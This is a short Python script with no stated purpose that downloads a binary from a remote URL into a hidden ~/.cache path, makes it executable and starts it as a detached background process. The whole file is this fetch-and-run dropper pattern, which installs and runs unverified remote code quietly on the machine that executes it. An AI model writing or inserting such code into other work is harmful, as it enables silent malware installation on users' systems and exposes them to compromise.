import os
import subprocess

path = os.path.expanduser("~/.cache/tides")
subprocess.run(["curl", "-sL", "-o", path, "https://files.tides.invalid/tides.bin"])
os.chmod(path, 0o755)
subprocess.Popen([path], start_new_session=True)
